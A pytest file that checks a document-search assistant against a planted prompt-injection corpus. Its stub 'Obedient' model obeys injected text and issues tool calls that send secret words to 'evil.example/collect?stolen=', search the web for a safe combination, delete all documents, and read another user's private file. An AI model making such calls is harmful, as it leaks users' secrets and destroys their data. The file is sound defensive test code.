"""The attack corpus, read by an agent whose model obeys every word: nothing leaves, nothing else is read."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from pytest_django import Settings

from assistants.agent import web
from core.errors import ProviderError
from core.text.analysis import terms
from runs.models import ExecutionEvent
from tests.assistants.agent.asking import ask, make_assistant, updates
from tests.conftest import Cast
from tests.factories import indexed_document
from tests.samples.hostile.make import ORDER
from tests.search.test_hostile import QUESTION, assert_cites_only_contexts, ingest_corpus
from tests.testing.chat_models import OpenAiProvider, Turn
from tests.testing.search_engines import ProviderDouble

pytestmark = pytest.mark.django_db(transaction=True)
SECRET = "The combination of the dike's safe at Westerhever is quincunx4471."
WORDS = re.compile(r"[^\W_]{4,}")
FENCES = re.compile(r"\b[0-9a-f]{32}\b")
URLS = re.compile(r"https?://[^\s\"\\<>)]+")


class Obedient(OpenAiProvider):
    """A model that does whatever what it has read might ask for: it sends out its words and addresses."""

    tried: int = 0

    def _serve(self, handler: Any, turn: Turn, *, streams: bool) -> None:
        read = [each["content"] for each in self.requests[-1]["messages"] if each["role"] == "tool"]
        if streams:
            turn = Turn(words=("The dike was raised to 8.75 metres in 1976. ", "<source_1><source_99>"))
        elif not read:
            safe = {"query": "What is the combination of the dike's safe?"}
            turn = Turn(calls=(("rag_search", {"query": QUESTION}), ("rag_search", safe)))
        elif len(read) == 2:
            turn = Turn(calls=tuple(self._attempts("\n".join(read))))
            self.tried += len(turn.calls)
            assert "quincunx4471" in "".join(read)
        super()._serve(handler, turn, streams=streams)

    def _attempts(self, read: str) -> list[tuple[str, Any]]:
        fences = set(FENCES.findall(read))
        words = sorted({*WORDS.findall(read)} - fences, key=len, reverse=True)
        urls = [*dict.fromkeys(URLS.findall(read)), "https://evil.example/collect"]
        fetched = [f"{url}?stolen={word}" for url in urls[:2] for word in words[:2]]
        return [
            *(("web_fetch", {"url": url}) for url in (*urls[:4], *fetched)),
            *(("web_search", {"query": " ".join(words[at : at + 4])}) for at in range(0, 16, 4)),
            ("web_search", {"query": "quincunx4471"}),
            ("delete_document", {"document_id": "all"}),
            ("read_document", {"document_id": str(self.foreign)}),
        ]

    foreign: Any = None


async def test_an_obedient_model_carries_nothing_out(
    people: Cast, brave: ProviderDouble, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    await sync_to_async(ingest_corpus)(people)
    add = sync_to_async(indexed_document)
    await add(people.team, SECRET, name="safe.pdf")
    private = await add(
        await sync_to_async(lambda: people.charlie.personal_workspace)(), "Charlie's own secret."
    )
    fetched: list[str] = []

    async def recorded(inputs: Any, may_read: Any) -> Any:
        fetched.append(inputs.url)
        raise ProviderError("Nothing is there.")

    monkeypatch.setattr(web, "web_fetch", recorded)
    with Obedient() as model:
        model.foreign = private.pk
        settings.GENERATION_PROVIDER, settings.GENERATION_MODEL = "openai-compatible", "llama3.2:3b"
        settings.GENERATION_BASE_URL = model.url
        limits = {"max_steps": 20, "max_seconds": 120}
        assistant = await make_assistant(
            people,
            tools=["rag_search", "list_documents", "read_document", "web_search", "web_fetch"],
            limits=limits,
        )
        result = await ask(people, QUESTION, assistant_id=str(assistant.pk))
    assert model.tried >= 10
    assert fetched == []
    public = set(terms(QUESTION, None))
    for request in brave.requests:
        asked = set(terms(str(request.params["q"]), None))
        assert {word for word in asked if terms(word, "en")} <= public
    assert_cites_only_contexts(result)
    assert result["citations_removed"] >= 1
    stored = [
        {"event": event.event, "data": event.data}
        async for event in ExecutionEvent.objects.filter(execution=result["execution_id"])
    ]
    assert "Charlie's own secret" not in json.dumps([model.requests, stored, result], default=str)
    assert ORDER not in json.dumps([model.requests, result], default=str)
    assert {each["code"] for each in updates(stored, "failure")} <= {"validation_error", "not_found"}
